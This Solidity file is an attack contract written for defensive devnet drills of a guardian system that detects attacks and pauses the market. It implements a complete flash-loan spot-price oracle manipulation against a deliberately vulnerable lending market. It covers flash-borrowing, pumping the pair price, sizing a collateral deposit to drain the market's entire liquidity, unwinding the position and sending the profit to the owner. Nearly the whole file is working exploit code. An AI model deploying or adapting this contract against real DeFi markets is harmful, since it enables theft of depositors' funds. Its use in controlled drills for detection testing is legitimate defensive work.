// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

// =====================================================================================
//  ATTACK CONTRACT FOR VIGIL'S DEVNET DRILLS ONLY. It exploits the deliberately vulnerable
//  VulnerableSpotPriceLendingMarket so that Vigil's guardian has a real attack to detect and
//  front-run with a pause. Do not point it at anything else.
// =====================================================================================

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {IUniswapV2Pair} from "./interfaces/IUniswapV2Pair.sol";
import {IUniswapV2Callee} from "./interfaces/IUniswapV2Callee.sol";
import {V2Math} from "./libraries/V2Math.sol";
import {VulnerableSpotPriceLendingMarket} from "./VulnerableSpotPriceLendingMarket.sol";

/// @title SpotPriceAttacker
/// @notice Drill attacker: the classic spot-price oracle manipulation (bZx / DEUS pattern) against
/// VulnerableSpotPriceLendingMarket, in one transaction:
///   1. borrow `amount` debt tokens (ERC-3156 flash loan, or Uniswap V2 flash swap from another pair);
///   2. buy collateral with all of it in the pair the market prices from (pumps the spot price);
///   3. deposit just enough of the bought collateral to borrow the market's entire liquidity at
///      the inflated price, and borrow it;
///   4. sell the remaining collateral back into the pair (recovers most of the flash capital);
///   5. repay the flash loan/swap plus fee and send the rest (the profit) to `owner`.
/// The cost is only the small deposited collateral, swap fees and the flash fee; the market's
/// debt tokens are lost against collateral worth a fraction of them at the true price.
/// Pausing the market stops the attack: `deposit`/`borrow` revert and the revert is not caught.
contract SpotPriceAttacker is IERC3156FlashBorrower, IUniswapV2Callee {
    using SafeERC20 for IERC20;

    bytes32 private constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");

    /// @notice Attacker account: the only caller of the attack functions and receiver of profit.
    address public immutable owner;

    /// @dev Lender or funding pair of the attack in progress; only it may call back.
    address private transient _funder;
    /// @dev Debt tokens borrowed from the market by the attack in progress, for the event.
    uint256 private transient _drained;

    /// @notice One successful attack.
    /// @param market The drained market.
    /// @param funder The ERC-3156 lender or Uniswap V2 pair that provided the capital.
    /// @param flashAmount Debt tokens flash-borrowed.
    /// @param drained Debt tokens borrowed from the market.
    /// @param profit Debt tokens sent to `owner`.
    event AttackExecuted(
        address indexed market, address indexed funder, uint256 flashAmount, uint256 drained, uint256 profit
    );

    error NotOwner();
    error UntrustedCallback();
    error WrongToken(address token);
    error FundingPairIsPricePair();
    error AttackUnprofitable(uint256 balance, uint256 owed);

    constructor() {
        owner = msg.sender;
    }

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner();
        _;
    }

    /// @notice Runs the attack funded by an ERC-3156 flash loan of the market's debt token.
    /// @param lender ERC-3156 lender holding the debt token.
    /// @param market Target market.
    /// @param amount Debt tokens to flash-borrow (the bigger, the higher the pumped price).
    /// @return profit Debt tokens sent to `owner`.
    function attackWithFlashLender(IERC3156FlashLender lender, VulnerableSpotPriceLendingMarket market, uint256 amount)
        external
        onlyOwner
        returns (uint256 profit)
    {
        IERC20 debt = market.debtToken();
        uint256 balanceBefore = debt.balanceOf(address(this));
        _funder = address(lender);
        lender.flashLoan(this, address(debt), amount, abi.encode(market));
        _funder = address(0);
        profit = _payout(market, address(lender), amount, balanceBefore);
    }

    /// @notice Runs the attack funded by a Uniswap V2 flash swap of the debt token from
    /// `fundingPair` (any pair holding the debt token other than the market's price pair, which is
    /// locked during its own flash swap). Repaid in the debt token with the 0.3% fee.
    /// @param fundingPair Uniswap V2 pair containing the debt token (e.g. debt/WETH).
    /// @param market Target market.
    /// @param amount Debt tokens to flash-swap out of `fundingPair`.
    /// @return profit Debt tokens sent to `owner`.
    function attackWithFlashSwap(IUniswapV2Pair fundingPair, VulnerableSpotPriceLendingMarket market, uint256 amount)
        external
        onlyOwner
        returns (uint256 profit)
    {
        if (address(fundingPair) == address(market.pricePair())) revert FundingPairIsPricePair();
        IERC20 debt = market.debtToken();
        uint256 balanceBefore = debt.balanceOf(address(this));
        (uint256 amount0Out, uint256 amount1Out) =
            fundingPair.token0() == address(debt) ? (amount, uint256(0)) : (uint256(0), amount);
        if (amount1Out != 0 && fundingPair.token1() != address(debt)) revert WrongToken(address(debt));
        _funder = address(fundingPair);
        fundingPair.swap(amount0Out, amount1Out, address(this), abi.encode(market));
        _funder = address(0);
        profit = _payout(market, address(fundingPair), amount, balanceBefore);
    }

    /// @notice ERC-3156 callback: runs the exploit, then approves `amount + fee` for the lender.
    function onFlashLoan(address initiator, address token, uint256 amount, uint256 fee, bytes calldata data)
        external
        override
        returns (bytes32)
    {
        if (msg.sender != _funder || initiator != address(this)) revert UntrustedCallback();
        VulnerableSpotPriceLendingMarket market = abi.decode(data, (VulnerableSpotPriceLendingMarket));
        if (token != address(market.debtToken())) revert WrongToken(token);

        _exploit(market, amount);

        uint256 owed = amount + fee;
        _requireBalance(IERC20(token), owed);
        IERC20(token).forceApprove(msg.sender, owed);
        return CALLBACK_SUCCESS;
    }

    /// @notice Uniswap V2 flash-swap callback: runs the exploit, then pays the pair back in the
    /// debt token (`amount * 1000 / 997`, rounded up).
    function uniswapV2Call(address sender, uint256 amount0, uint256 amount1, bytes calldata data) external override {
        if (msg.sender != _funder || sender != address(this)) revert UntrustedCallback();
        VulnerableSpotPriceLendingMarket market = abi.decode(data, (VulnerableSpotPriceLendingMarket));
        IERC20 debt = market.debtToken();
        uint256 amount = amount0 + amount1; // only the debt-token side is non-zero

        _exploit(market, amount);

        uint256 owed = V2Math.flashSwapRepayment(amount);
        _requireBalance(debt, owed);
        debt.safeTransfer(msg.sender, owed);
    }

    /// @dev Steps 2-4 of the attack, with `amountIn` flash-borrowed debt tokens in hand.
    function _exploit(VulnerableSpotPriceLendingMarket market, uint256 amountIn) internal {
        IUniswapV2Pair pair = market.pricePair();
        address debt = address(market.debtToken());
        address collateral = address(market.collateralToken());

        // 2. Pump: buy collateral with everything borrowed; the pair's spot price rises roughly
        //    with the square of (reserveDebt + amountIn) / reserveDebt.
        uint256 bought = V2Math.swapExactIn(pair, debt, amountIn, address(this));

        // 3. Size the deposit to borrow the whole market at the pumped price (the market computes
        //    value = collateral * reserveDebt / reserveCollateral, limit = value * ltv / 10_000;
        //    rounding up here makes the limit >= target exactly).
        uint256 target = market.liquidity();
        (uint256 reserveDebt, uint256 reserveCollateral) = V2Math.reservesFor(pair, debt);
        uint256 valueNeeded = Math.mulDiv(target, 10_000, market.ltvBps(), Math.Rounding.Ceil);
        uint256 toDeposit =
            Math.min(Math.mulDiv(valueNeeded, reserveCollateral, reserveDebt, Math.Rounding.Ceil), bought);

        IERC20(collateral).forceApprove(address(market), toDeposit);
        market.deposit(toDeposit); // reverts (uncaught) when the market is paused
        uint256 drained = Math.min(target, market.maxBorrow(address(this)));
        market.borrow(drained); // reverts (uncaught) when the market is paused

        // 4. Unwind: sell the collateral not deposited back into the pair.
        uint256 leftover = bought - toDeposit;
        if (leftover != 0) V2Math.swapExactIn(pair, collateral, leftover, address(this));

        _drained = drained;
    }

    /// @dev Step 5 (after repayment): sends the whole debt-token balance to `owner`.
    function _payout(
        VulnerableSpotPriceLendingMarket market,
        address funder,
        uint256 flashAmount,
        uint256 balanceBefore
    ) internal returns (uint256 profit) {
        IERC20 debt = market.debtToken();
        uint256 balance = debt.balanceOf(address(this));
        profit = balance - balanceBefore;
        debt.safeTransfer(owner, balance);
        emit AttackExecuted(address(market), funder, flashAmount, _drained, profit);
    }

    function _requireBalance(IERC20 token, uint256 owed) internal view {
        uint256 balance = token.balanceOf(address(this));
        if (balance < owed) revert AttackUnprofitable(balance, owed);
    }
}
